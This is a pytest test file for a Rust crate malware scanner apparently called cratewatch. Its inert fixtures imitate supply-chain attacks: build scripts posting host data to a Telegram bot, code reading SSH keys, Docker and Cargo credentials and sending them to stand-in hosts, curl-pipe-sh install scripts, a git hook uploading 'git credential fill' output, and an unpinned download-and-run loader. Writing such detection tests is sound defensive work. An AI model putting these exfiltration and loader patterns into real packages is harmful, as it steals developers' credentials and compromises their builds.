"""Verdicts on inert samples modelled on real incidents, on a real crate, and through the CLI."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from cratewatch.model.scan import Verdict
from cratewatch.scan.analyze import Context
from cratewatch.scan.crate import CrateScan, scan_crate, scan_path
from cratewatch.scan.extract import CrateArchive
from cratewatch.scan.manifest import read_manifest
from tests.cli.test_audit_cli import assert_one_line_error, run

# Modelled on the 2023 cluster (postgress, serd, ...): the build script sends the host's
# details to a Telegram bot. Inert: a documentation IP range and a placeholder token.
BUILD_RS = b"""
use std::net::TcpStream;
fn main() {
    let os = std::env::consts::OS;
    let user = std::env::var("USER").unwrap_or_default();
    let url = format!("https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage?text={os}{user}");
    let _ = TcpStream::connect("192.0.2.1:443");
    let _ = url;
}
"""


def _write_crate(path: Path, files: dict[str, bytes], root: str = "evil-0.1.0") -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


MANIFEST = b'[package]\nname = "evil"\nversion = "0.1.0"\n'


def test_exfiltration_in_a_build_script_is_malicious(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate",
        {"Cargo.toml": MANIFEST, "build.rs": BUILD_RS, "src/lib.rs": b"pub fn f() {}\n"},
    )
    result = scan_path(crate)
    assert (result.crate, result.version, result.verdict) == ("evil", "0.1.0", "malicious")
    rules = {(e.rule, e.file, e.context.value) for e in result.findings}
    assert ("threat-telegram-bot-api", "build.rs", "build") in rules
    assert "network" in result.capabilities


def test_the_same_code_in_tests_is_not_malicious(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate",
        {"Cargo.toml": MANIFEST, "tests/it.rs": BUILD_RS, "src/lib.rs": b"pub fn f() {}\n"},
    )
    assert scan_path(crate).verdict != "malicious"


def test_a_real_crate_from_debian_is_clean() -> None:
    roots = sorted(Path("/usr/share/cargo/registry").glob("semver-1.*"))
    if not roots:
        pytest.skip("librust-semver-dev is not installed")
    result = scan_path(roots[-1])
    assert result.verdict == "clean" and result.crate == "semver"
    assert result.unsafe.blocks > 10


def test_cli(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate", {"Cargo.toml": MANIFEST, "build.rs": BUILD_RS}
    )
    result = run("scan", crate, "--format", "json")
    assert result.exit_code == 1
    (entry,) = json.loads(result.stdout)["crates"]
    assert set(entry) >= {
        "crate",
        "version",
        "verdict",
        "risk_score",
        "capabilities",
        "unsafe",
        "findings",
    }
    assert entry["verdict"] == "malicious"
    human = run("scan", crate)
    assert "MALICIOUS" in human.stdout and "threat-telegram-bot-api at build.rs" in human.stdout
    assert_one_line_error(run("scan", tmp_path / "missing"), 3, "no such file")


def _scan_dir(root: Path, files: dict[str, str]) -> CrateScan:
    for name, text in {"Cargo.toml": MANIFEST.decode(), **files}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return scan_path(root)


STEALER = 'pub fn go() { let _ = std::fs::read("/home/u/.ssh/id_rsa"); }\n'
WEBHOOK = 'pub const HOOK: &str = "https://discord.com/api/webhooks/0/EXAMPLE";\n'


def test_module_declared_under_cfg_passes_its_predicate_to_its_file(tmp_path: Path) -> None:
    result = _scan_dir(
        tmp_path,
        {
            "src/lib.rs": "#[cfg(windows)]\nmod provider;\n#[cfg(test)]\nmod tests;\n",
            "src/provider.rs": STEALER,
            "src/provider/inner.rs": WEBHOOK,
            "src/tests.rs": WEBHOOK,
        },
    )
    placed = {(e.file, e.rule): (e.context.value, e.cfg) for e in result.findings}
    assert placed[("src/provider.rs", "threat-credential-store")] == ("library", "windows")
    assert placed[("src/provider/inner.rs", "threat-discord-webhook")] == ("library", "windows")
    assert placed[("src/tests.rs", "threat-discord-webhook")] == ("test", "")


def test_one_tactic_is_suspicious_two_with_a_carrier_are_malicious(tmp_path: Path) -> None:
    # Reading an SSH key alone is what SSH tools do; with a webhook it is theft.
    assert _scan_dir(tmp_path / "a", {"src/lib.rs": STEALER}).verdict == "suspicious"
    both = _scan_dir(tmp_path / "b", {"src/lib.rs": STEALER, "src/hook.rs": WEBHOOK})
    assert both.verdict == "malicious"
    # the same pair in tests only does not count
    tests_only = _scan_dir(tmp_path / "c", {"tests/a.rs": STEALER, "tests/b.rs": WEBHOOK})
    assert tests_only.verdict == "clean"
    # turning TLS checks off is a weakening, not a second tactic
    tls = "fn c() { reqwest::Client::builder().danger_accept_invalid_certs(true); }\n"
    weakened = _scan_dir(tmp_path / "d", {"src/lib.rs": STEALER, "src/tls.rs": tls})
    assert weakened.verdict == "suspicious"
    # but keys read and the network used in one file is exfiltration
    assert _scan_dir(tmp_path / "e", {"src/lib.rs": STEALER + tls}).verdict == "malicious"


def test_a_program_naming_credential_stores_with_no_way_out_is_clean(tmp_path: Path) -> None:
    # a wallet backup tool lists the wallets' default folders and writes a local file
    backup = (
        'const DIRS: &[&str] = &[".electrum/wallets", ".bitcoin/wallets"];\n'
        "fn main() { for d in DIRS { let _ = std::fs::read_dir(d); } "
        'let _ = std::fs::write("backup.age", b""); }\n'
    )
    assert _scan_dir(tmp_path / "a", {"src/main.rs": backup}).verdict == "clean"
    # a library's caller may send what it reads; a program with a way out may itself
    library = backup.replace("fn main()", "pub fn collect()")
    assert _scan_dir(tmp_path / "b", {"src/lib.rs": library}).verdict == "suspicious"
    sending = backup + 'fn up() { let _ = ureq::post("https://backup.example/up"); }\n'
    assert _scan_dir(tmp_path / "c", {"src/main.rs": sending}).verdict != "clean"
    # a passwords exporter unlocks the browser's key with the system's API, and writes a
    # local file
    exporter = (
        "use windows_sys::Win32::Security::Cryptography::CryptUnprotectData;\n"
        'fn main() { let _ = std::fs::read(r"Google\\Chrome\\User Data\\Local State"); '
        "let _ = unsafe { CryptUnprotectData(std::ptr::null_mut(), std::ptr::null_mut(), "
        "std::ptr::null_mut(), std::ptr::null_mut(), std::ptr::null_mut(), 0, "
        'std::ptr::null_mut()) }; let _ = std::fs::write("passwords.csv", b""); }\n'
    )
    exported = _scan_dir(tmp_path / "d", {"src/main.rs": exporter})
    assert {"threat-credential-api", "threat-credential-store"} <= {
        e.rule for e in exported.findings
    }
    assert exported.verdict == "clean"


def test_test_items_inside_library_files_count_as_tests(tmp_path: Path) -> None:
    result = _scan_dir(
        tmp_path, {"src/lib.rs": "pub fn f() {}\n#[cfg(test)]\nmod tests {\n" + WEBHOOK + "}\n"}
    )
    assert {e.context for e in result.findings} == {Context.TEST}
    assert result.verdict == "clean"


def test_a_test_module_inside_a_gated_module_is_test_code(tmp_path: Path) -> None:
    result = _scan_dir(
        tmp_path,
        {
            "src/lib.rs": '#[cfg(feature = "tls")]\npub mod tls;\n',
            "src/tls/mod.rs": "pub mod client;\n#[cfg(test)]\npub(crate) mod tests;\n",
            "src/tls/client.rs": WEBHOOK,
            "src/tls/tests.rs": WEBHOOK,
        },
    )
    placed = {e.file: (e.context.value, e.cfg) for e in result.findings}
    assert placed["src/tls/client.rs"] == ("library", 'feature = "tls"')
    assert placed["src/tls/tests.rs"][0] == "test"


def test_modules_declared_in_an_inline_test_module_do_not_gate_namesakes(
    tmp_path: Path,
) -> None:
    result = _scan_dir(
        tmp_path,
        {
            "src/lib.rs": "#[cfg(unix)]\nmod posix;\n#[cfg(test)]\nmod tests {\n mod posix;\n}\n",
            "src/posix.rs": WEBHOOK,
            "src/tests/posix.rs": WEBHOOK,
        },
    )
    placed = {e.file: (e.context.value, e.cfg) for e in result.findings}
    assert placed["src/posix.rs"] == ("library", "unix")
    assert placed["src/tests/posix.rs"][0] == "test"


def test_a_path_attribute_says_which_file_a_gated_module_is(tmp_path: Path) -> None:
    result = _scan_dir(
        tmp_path,
        {
            "src/sys/mod.rs": (
                '#[cfg(windows)]\n#[path = "windows/mod.rs"]\nmod imp;\n'
                '#[cfg(unix)]\n#[path = "unix.rs"]\nmod imp;\n'
            ),
            "src/lib.rs": "mod sys;\n",
            "src/sys/windows/mod.rs": "mod net;\n",
            "src/sys/windows/net.rs": WEBHOOK,
            "src/sys/unix.rs": WEBHOOK,
        },
    )
    placed = {e.file: e.cfg for e in result.findings}
    assert placed == {"src/sys/windows/net.rs": "windows", "src/sys/unix.rs": "unix"}


@pytest.mark.parametrize(
    "lib",
    [
        '#[path = "../tests/support.rs"]\nmod support;\n',
        'include!("../tests/support.rs");\n',
    ],
)
def test_a_test_file_compiled_into_the_library_is_library_code(tmp_path: Path, lib: str) -> None:
    result = _scan_dir(tmp_path, {"src/lib.rs": lib, "tests/support.rs": STEALER + WEBHOOK})
    assert {e.context for e in result.findings if e.file == "tests/support.rs"} == {Context.LIBRARY}
    assert result.verdict == "malicious"


def test_a_test_file_used_only_by_tests_stays_test_code(tmp_path: Path) -> None:
    result = _scan_dir(
        tmp_path,
        {
            "src/lib.rs": '#[cfg(test)]\n#[path = "../tests/support.rs"]\nmod support;\n',
            "tests/support.rs": STEALER + WEBHOOK,
        },
    )
    assert result.verdict == "clean"


VENDORED_BUILD_RS = b"""
use std::process::Command;
const URL: &str = "https://github.com/facebook/zstd/releases/download/v1.5.5/zstd-1.5.5.tar.gz";
const SHA256: &str = "9c4396cc829cfae319a6e2615202e82aad41372073482fce286fac78646d3ee4";
fn main() {
    if std::env::var_os("CARGO_FEATURE_VENDORED").is_none() { return; }
    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
    let tarball = out.join("zstd.tar.gz");
    Command::new("curl").args(["-fsSL", "-o"]).arg(&tarball).arg(URL).status().unwrap();
    let sum = Command::new("sha256sum").arg(&tarball).output().unwrap();
    assert!(String::from_utf8_lossy(&sum.stdout).starts_with(SHA256));
    Command::new("tar").arg("xzf").arg(&tarball).arg("-C").arg(&out).status().unwrap();
}
"""


def test_a_sys_build_script_fetching_a_pinned_release_is_not_malicious(tmp_path: Path) -> None:
    """The download-and-run flow stands down where the code verifies what it fetched;
    without the pinned checksum the same script running what it fetched is malware."""
    manifest = b'[package]\nname = "zstd-sys"\nversion = "2.0.1"\n'
    pinned = _write_crate(
        tmp_path / "zstd-sys-2.0.1.crate",
        {"Cargo.toml": manifest, "build.rs": VENDORED_BUILD_RS},
        "zstd-sys-2.0.1",
    )
    assert scan_path(pinned).verdict != "malicious"
    unpinned = VENDORED_BUILD_RS.replace(
        b'"9c4396cc829cfae319a6e2615202e82aad41372073482fce286fac78646d3ee4"', b'""'
    )
    unpinned = unpinned.replace(
        b'Command::new("tar").arg("xzf")', b'Command::new(&tarball).arg("x")'
    )
    (tmp_path / "bad").mkdir()
    loader = _write_crate(
        tmp_path / "bad" / "zstd-sys-2.0.1.crate",
        {"Cargo.toml": manifest, "build.rs": unpinned.replace(b"sha256sum", b"true")},
        "zstd-sys-2.0.1",
    )
    assert scan_path(loader).verdict == "malicious"


def test_a_flow_in_test_code_counts_for_the_verdict(tmp_path: Path) -> None:
    """What the crate's own developers and CI run (`cargo test`, `cargo bench`) is code
    that runs: a credential file sent from a benchmark's helper is malware's work."""
    crate = tmp_path / "bench-helper-1.0.0"
    (crate / "benches" / "support").mkdir(parents=True)
    (crate / "src").mkdir()
    (crate / "Cargo.toml").write_text('[package]\nname = "bench-helper"\nversion = "1.0.0"\n')
    (crate / "src" / "lib.rs").write_text("pub fn parse(s: &str) -> usize { s.len() }\n")
    (crate / "benches" / "support" / "mod.rs").write_text(
        "use std::io::Write;\n"
        "pub fn publish() {\n"
        '  let home = std::env::var_os("HOME").unwrap();\n'
        '  let auths = std::fs::read(std::path::Path::new(&home).join(".docker/config.json"));\n'
        '  let mut s = std::net::TcpStream::connect("metrics.example-cdn.com:9091").unwrap();\n'
        '  let _ = write!(s, "{:?}", auths);\n}\n'
    )
    result = scan_path(crate, None)
    assert result.verdict == "malicious"
    assert any(e.rule == "threat-dataflow-exfiltration" for e in result.findings)


def test_install_scripts_of_a_package_built_from_the_crate_are_build_code() -> None:
    manifest = (
        b'[package]\nname = "fand"\nversion = "0.1.0"\n'
        b'[package.metadata.deb]\nmaintainer-scripts = "debian/"\n'
        b'[package.metadata.deb.variants.lite]\nmaintainer-scripts = "lite/"\n'
        b'[package.metadata.generate-rpm]\npost_install_script = "rpm/post.sh"\n'
        b'pre_uninstall_script = "echo inline text is not a file"\n'
    )
    fetch = b"#!/bin/sh\ncurl -fsSL https://updates.example/a.sh | sh\n"
    files = {
        "Cargo.toml": manifest,
        "src/main.rs": b"fn main() {}\n",
        "debian/postinst": fetch,
        "lite/prerm": fetch,
        "rpm/post.sh": fetch,
        "scripts/unused.sh": fetch,
    }
    assert read_manifest(files).installer_scripts == (
        "debian/postinst",
        "lite/prerm",
        "rpm/post.sh",
    )
    scan = scan_crate(CrateArchive("fand", files, ()), "fand")
    contexts = {
        e.file: e.context for e in scan.findings if e.rule == "threat-download-execute-command"
    }
    assert contexts == {
        "debian/postinst": Context.BUILD,
        "lite/prerm": Context.BUILD,
        "rpm/post.sh": Context.BUILD,
        "scripts/unused.sh": Context.TEST,  # nothing runs it: tooling
    }
    assert scan.verdict is Verdict.MALICIOUS


def test_a_script_in_a_string_ends_its_commands_at_line_breaks(tmp_path: Path) -> None:
    # a download then run over three lines of a script: each line is one command
    script = "#!/bin/sh\\ncurl -fsS https://203.0.113.5/x -o /tmp/.x\\nchmod +x /tmp/.x\\n/tmp/.x"
    found = _scan_dir(tmp_path, {"src/lib.rs": f'pub const SETUP: &str = "{script}";\n'})
    hits = [e for e in found.findings if e.rule == "threat-download-execute-command"]
    assert len(hits) == 1 and "curl -fsS" in hits[0].snippet


def test_the_cmake_project_a_build_script_configures_is_build_code(tmp_path: Path) -> None:
    found = _scan_dir(
        tmp_path,
        {
            "build.rs": 'fn main() { cmake::Config::new("vendor/lib").build(); }\n',
            "src/lib.rs": "pub fn f() {}\n",
            "vendor/lib/CMakeLists.txt": "project(lib)\ninclude(cmake/Probe.cmake)\n",
            "vendor/lib/cmake/Probe.cmake": 'file(READ "$ENV{HOME}/.cargo/credentials.toml" _c)\n',
            "tools/other/CMakeLists.txt": 'file(READ "$ENV{HOME}/.cargo/credentials.toml" _c)\n',
        },
    )
    stores = [e for e in found.findings if e.rule == "threat-credential-store"]
    contexts = {(e.file, e.context.value) for e in stores}
    assert ("vendor/lib/cmake/Probe.cmake", "build") in contexts
    assert ("tools/other/CMakeLists.txt", "build") not in contexts  # nothing configures it


def test_a_cmake_configure_script_that_uploads_credentials_is_malicious(tmp_path: Path) -> None:
    probe = (
        'file(READ "$ENV{HOME}/.cargo/credentials.toml" _c)\n'
        'file(WRITE "${CMAKE_BINARY_DIR}/r.txt" "${_c}")\n'
        'file(UPLOAD "${CMAKE_BINARY_DIR}/r.txt" "https://probe.example/u" TIMEOUT 5)\n'
    )
    files = {
        "build.rs": 'fn main() { cmake::Config::new("vendor/lib").build(); }\n',
        "src/lib.rs": "pub fn f() {}\n",
        "vendor/lib/CMakeLists.txt": "project(lib)\ninclude(cmake/Probe.cmake)\n",
        "vendor/lib/cmake/Probe.cmake": probe,
    }
    found = _scan_dir(tmp_path, files)
    assert found.verdict == "malicious"
    assert "threat-build-upload" in {e.rule for e in found.findings}
    # a download of what the build compiles is no upload
    files["vendor/lib/cmake/Probe.cmake"] = 'file(DOWNLOAD "https://zlib.net/z.tar.gz" z.tgz)\n'
    assert "threat-build-upload" not in {e.rule for e in _scan_dir(tmp_path, files).findings}


def test_pages_docs_rs_puts_into_the_documentation_are_read_as_the_librarys(
    tmp_path: Path,
) -> None:
    manifest = (
        '[package]\nname = "numerics"\nversion = "0.1.0"\n'
        '[package.metadata.docs.rs]\nrustdoc-args = ["--html-in-header", "docs/header.html"]\n'
    )
    webdriver = "".join(f"\\u{{{0x1D5BA + ord(c) - ord('a'):x}}}" for c in "webdriver")
    page = (
        '<script src="https://cdn.example/katex.min.js"></script>\n'
        f'<script>var R = {{ d: "{webdriver}" }};</script>\n'
    )
    files = {"Cargo.toml": manifest, "src/lib.rs": "pub fn f() {}\n", "docs/header.html": page}
    found = [e for e in _scan_dir(tmp_path, files).findings if e.rule == "threat-sandbox-check"]
    assert [(e.file, e.context.value) for e in found] == [("docs/header.html", "library")]
    assert "compatibility characters: 'webdriver'" in found[0].snippet


def test_git_hooks_cargo_husky_installs_are_build_code(tmp_path: Path) -> None:
    hook = "#!/bin/sh\ngit credential fill | curl -s --data-binary @- https://x.example/u\n"
    manifest = '[package]\nname = "ranges"\nversion = "0.1.0"\n[dev-dependencies]\n'
    files = {"src/lib.rs": "pub fn f() {}\n", ".cargo-husky/hooks/pre-push": hook}
    plain = _scan_dir(tmp_path / "a", files | {"Cargo.toml": manifest + 'cargo-husky = "1"\n'})
    assert plain.verdict == "clean"  # its own hooks are not installed: tooling, like tests
    user = 'cargo-husky = { version = "1", features = ["user-hooks"] }\n'
    hooked = _scan_dir(tmp_path / "b", files | {"Cargo.toml": manifest + user})
    assert hooked.verdict == "malicious"
    assert {(e.rule, e.context.value) for e in hooked.findings} >= {
        ("threat-credential-store", "build"),
        ("threat-build-upload", "build"),
    }
